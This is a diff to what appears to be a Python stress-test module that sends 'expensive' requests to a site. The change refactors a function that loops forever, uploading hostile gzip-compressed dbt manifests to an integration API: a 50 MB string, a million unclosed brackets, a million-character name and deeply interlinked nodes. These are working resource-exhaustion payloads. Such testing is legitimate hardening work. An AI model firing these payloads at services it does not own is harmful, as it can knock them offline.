@@ -1,6 +1,7 @@
 """Attacks with requests: as many expensive ones as the site answers, with an account, a key or a link, or with nothing."""
 
 import asyncio
+import functools
 import gzip
 import itertools
 import json
@@ -94,20 +95,24 @@ async def lineage(site):
 
 
 async def manifests(site):
-    """Import dbt manifests that unpack to 500 MB, are nested without an end, have huge names, or as many parents as are allowed."""
+    """Import hostile dbt manifests."""
+    for body in itertools.cycle(_manifests()):
+        await _request(site, "POST", "/api/v1/integrations/dbt/", body, "application/gzip", token=site.token)
+
+
+@functools.cache
+def _manifests():
+    """Return manifests with an entry of 50 MB, nested without an end, with a huge name, and with as many parents as are allowed."""
     head = b'{"metadata":{"dbt_schema_version":"https://schemas.getdbt.com/dbt/manifest/v12.json","project_name":"x"},"nodes":'
     names = [f"model.x.m{number}" for number in range(1_000)]
     nodes = {key: {"resource_type": "model", "name": key, "depends_on": {"nodes": names[:499]}} for key in names}
     files = [
-        head + b'{"a":"' + b"x" * 500_000_000 + b'"}}',
+        head + b'{"a":"' + b"x" * 50_000_000 + b'"}}',
         head + b'{"a":' + b"[" * 1_000_000,
         head + json.dumps({f"model.x.{'n' * 1_000_000}": {"resource_type": "model"}}).encode() + b"}",
         head + json.dumps(nodes).encode() + b"}",
     ]
-    bodies = [gzip.compress(file, 1) for file in files]
-    del files
-    for body in itertools.cycle(bodies):
-        await _request(site, "POST", "/api/v1/integrations/dbt/", body, "application/gzip", token=site.token)
+    return [gzip.compress(file, 1) for file in files]
 
 
 async def readers(site):
